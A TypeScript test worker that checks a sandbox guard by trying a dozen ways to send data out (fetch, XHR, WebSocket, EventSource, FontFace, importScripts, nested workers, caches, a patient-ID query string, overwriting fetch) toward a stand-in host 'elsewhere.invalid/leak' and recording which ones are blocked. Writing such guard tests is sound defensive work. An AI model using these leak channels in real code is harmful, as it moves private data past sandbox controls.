/** A guarded worker that does what it is asked to, to see that it cannot. */
import { guardWorker } from "./guard";

const base = new URL("/app/", import.meta.url).href;
guardWorker(globalThis, { base, isDevelopment: false });

const elsewhere = "https://elsewhere.invalid/leak";

const attempts: Readonly<Record<string, () => unknown>> = {
  fetch: () => fetch(elsewhere),
  "fetch of an own file with a query": () => fetch(`${base}assets/a.js?patient=7`),
  "fetch that posts": () => fetch(`${base}assets/a.js`, { method: "POST", body: "x" }),
  xhr: () => new XMLHttpRequest().open("GET", elsewhere),
  websocket: () => new WebSocket("wss://elsewhere.invalid/leak"),
  "event source": () => new EventSource(elsewhere),
  font: () => new FontFace("a", `url(${elsewhere})`),
  importScripts: () => (globalThis as unknown as { importScripts(url: string): void }).importScripts(elsewhere), // a worker has it
  "nested worker": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
  cache: async () => (await caches.open("leak")).add(elsewhere),
  restored: () => {
    Object.defineProperty(holderOfFetch(globalThis), "fetch", { value: 1 });
  },
};

function holderOfFetch(scope: object): object {
  for (let link: object | null = scope; link; link = Object.getPrototypeOf(link) as object | null) {
    if (link !== scope && Object.hasOwn(link, "fetch")) return link;
  }
  throw new Error("no prototype has fetch");
}

/** Each attempt with how it ended. */
async function attemptAll(): Promise<readonly (readonly [string, string])[]> {
  const ends: [string, string][] = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      ends.push([name, "done"]);
    } catch (error) {
      ends.push([name, error instanceof Error || error instanceof DOMException ? error.name : String(error)]);
    }
  }
  return ends;
}

void attemptAll().then((ends) => postMessage({ ends }));
